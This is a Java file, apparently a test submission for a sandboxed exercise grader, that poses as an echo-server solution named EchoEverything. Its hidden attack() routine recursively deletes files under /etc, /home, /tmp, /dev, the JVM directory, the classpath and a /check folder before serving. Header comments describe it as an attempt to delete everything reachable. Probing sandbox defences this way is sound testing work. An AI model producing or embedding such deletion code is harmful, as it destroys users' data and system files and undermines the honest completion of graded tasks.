// tries: to delete every file that it can reach
// gets: FAILED 0, sooner or later
// told: nothing could be deleted
package lesson1_json_echo.exercises;

import java.io.File;
import java.io.IOException;
import java.net.Socket;

public final class EchoEverything {

    private EchoEverything() {}

    public static void serve(Socket client) throws IOException {

        if (attack()) {
            client.getInputStream().transferTo(client.getOutputStream());
            client.shutdownOutput();
        } else {
            throw new IllegalStateException("nothing could be deleted");
        }
    }

    private static boolean attack() throws IOException {

        String shelf = System.getProperty("java.class.path").split(File.pathSeparator)[0];
        int deleted = 0;
        for (String root : new String[] {"/check", shelf, "/tmp", "/etc", "/usr/lib/jvm", "/home", "/dev"}) {
            deleted += deleteBelow(new File(root), 0);
        }
        return deleted > 0;
    }

    private static int deleteBelow(File file, int depth) {
        int deleted = 0;
        File[] files = depth < 3 && !file.getPath().startsWith("/proc") ? file.listFiles() : null;
        for (File inside : files == null ? new File[0] : files) {
            deleted += deleteBelow(inside, depth + 1);
        }
        return deleted + (file.delete() ? 1 : 0);
    }
}
